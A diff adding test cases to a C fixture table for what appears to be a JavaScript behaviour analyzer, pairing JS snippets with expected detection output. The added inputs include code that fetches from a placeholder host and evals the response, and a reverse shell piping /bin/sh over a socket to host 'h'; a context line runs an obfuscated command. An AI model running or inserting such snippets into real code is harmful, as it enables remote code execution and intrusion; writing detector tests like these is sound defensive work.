@@ -226,6 +226,16 @@ static const struct fixture_case cases[] = {
 	  "const t = ['ZXhlY1N5bmM=', 'aWQ=']; const d = i => Buffer.from(t[i - 0], "
 	  "'base64').toString(); require('child_process')[d('0x0')](d('0x1'));",
 	  "0 command 'id' @decoded @nested\n" },
+	{ "promise",
+	  "const https = require('https'); const load = u => new Promise((ok, no) => { https.get(u, "
+	  "r => { let t = ''; r.on('data', d => { t += d; }); r.on('end', () => ok(t)); }); }); "
+	  "load('http://h').then(eval);",
+	  "0 network 'http://h' +fetches @function\n1 evaluate ~'?' +starts <0\n"
+	  "2 evaluate ~'?' +starts <0\n" },
+	{ "callback before the variable is there",
+	  "const s = require('net').connect(1, 'h', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); }); "
+	  "const sh = require('child_process').spawn('/bin/sh', []);",
+	  "0 network 'h:1' +sends <1\n1 command '/bin/sh' +interactive <0\n" },
 	{ "listener",
 	  "require('http').createServer((q, s) => s.end('x')).listen(8080);",
 	  "0 call 'http.createServer' ~'?'\n1 network ':8080' +listens\n" },
